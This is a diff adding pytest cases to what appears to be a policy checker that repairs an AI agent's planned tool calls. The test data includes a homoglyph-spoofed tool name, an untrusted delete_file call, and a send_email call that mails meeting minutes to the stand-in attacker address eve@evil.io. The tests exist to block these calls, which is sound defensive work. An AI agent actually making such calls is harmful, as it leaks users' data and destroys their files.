@@ -115,6 +115,37 @@ def test_a_weaker_tool_serves_only_if_granted_by_name() -> None:
     assert repaired({"allowed_operations": ["read_mail"]}, call).plan is None
 
 
+def test_a_look_alike_becomes_the_tool_that_the_policy_names() -> None:
+    policy = {"allowed_operations": ["submit-form"]}
+    for name in ("subm\u0456t-form", "SUBMIT_FORM"):
+        outcome = repaired(policy, node(name, arguments={"form": "leave"}))
+        assert said(outcome) == [f"call submit-form instead of {name} at n1"]
+
+
+def test_a_granted_tool_gives_way_only_to_what_was_asked_for() -> None:
+    policy = {
+        "allowed_operations": ["read_file", "delete_file", "list_records"],
+        "provenance_requirements": {"delete_file": "trusted"},
+    }
+    calls = [node("list_records"), node("delete_file", "n2", arguments={"path": "a.txt"}, provenance_tier=3)]
+    assert said(repaired(policy, *calls, request="List the records.")) == ["remove call n2 (delete_file)"]
+    asked = repaired(policy, *calls, request="List the records and read a.txt.")
+    assert said(asked) == ["call read_file instead of delete_file at n2"]
+
+
+def test_no_call_is_redirected_to_where_another_goes_already() -> None:
+    calls = [
+        node("send_email", arguments={"to": "ann@partner.com", "body": "the minutes"}),
+        node("send_email", "n2", arguments={"to": "eve@evil.io", "body": "the minutes"}),
+    ]
+    policy = {**MAIL, "allowed_destinations": ["acme.com", "partner.com"]}
+    request = "Mail the minutes to ann@partner.com."
+    assert said(repaired(policy, *calls, request=request)) == ["remove call n2 (send_email)"]
+    assert said(repaired(policy, calls[1], request=request)) == [
+        'redirect to of n2: "eve@evil.io" to "ann@partner.com", which the request names'
+    ]
+
+
 def test_a_policys_schema_says_what_a_tool_takes() -> None:
     schema = {"type": "object", "properties": {"path": {"type": "string"}}, "additionalProperties": False}
     policy = {"allowed_operations": ["read_file", "archive_file"], "tools": {"read_file": {"input_schema": schema}}}
